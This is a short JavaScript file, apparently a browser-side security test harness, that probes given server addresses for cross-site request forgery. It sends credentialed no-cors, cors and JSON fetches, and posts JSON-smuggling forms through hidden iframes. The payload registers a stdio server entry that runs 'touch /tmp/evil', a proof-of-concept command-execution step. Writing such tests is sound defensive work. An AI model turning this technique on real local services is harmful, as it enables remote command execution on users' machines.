/* global document, fetch, setTimeout */

/**
 * Every way a foreign page has to reach a server, at each of the given addresses: simple requests without a preflight,
 * requests with one, and forms in frames. Gives what it could read of the answers.
 */
globalThis.attack = async (attempts) => {
  const body = JSON.stringify({ name: 'evil', type: 'stdio', command: 'touch', args: ['/tmp/evil'], enabled: true })
  const read = []
  const tell = async (label, answer) => {
    try {
      const response = await answer
      if (response.type !== 'opaque') read.push(`${label}: ${response.status} ${await response.text()}`)
    } catch {
      // the browser itself stopped it
    }
  }
  for (const { method, url } of attempts) {
    const simple = method === 'GET' ? {} : { method: 'POST', body }
    await tell('no-cors', fetch(url, { ...simple, mode: 'no-cors', credentials: 'include' }))
    await tell('cors', fetch(url, { ...simple, credentials: 'include' }))
    const json = { method, headers: { 'content-type': 'application/json' } }
    await tell('json', fetch(url, method === 'GET' ? json : { ...json, body }))
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded']) {
      const frame = document.createElement('iframe')
      frame.name = `frame-${Math.random()}`
      const form = document.createElement('form')
      Object.assign(form, { method: 'POST', action: url, enctype, target: frame.name })
      const input = document.createElement('input')
      Object.assign(input, { name: body.slice(0, -1), value: '"}' })
      form.append(input)
      document.body.append(frame, form)
      const loaded = new Promise((resolve) => {
        frame.addEventListener('load', resolve, { once: true })
        setTimeout(resolve, 5000)
      })
      form.submit()
      await loaded
      try {
        read.push(`frame: ${frame.contentDocument?.body.textContent ?? ''}`)
      } catch {
        // another origin: not readable
      }
      frame.remove()
      form.remove()
    }
  }
  return read.filter((text) => !/^frame: ?$/.test(text))
}
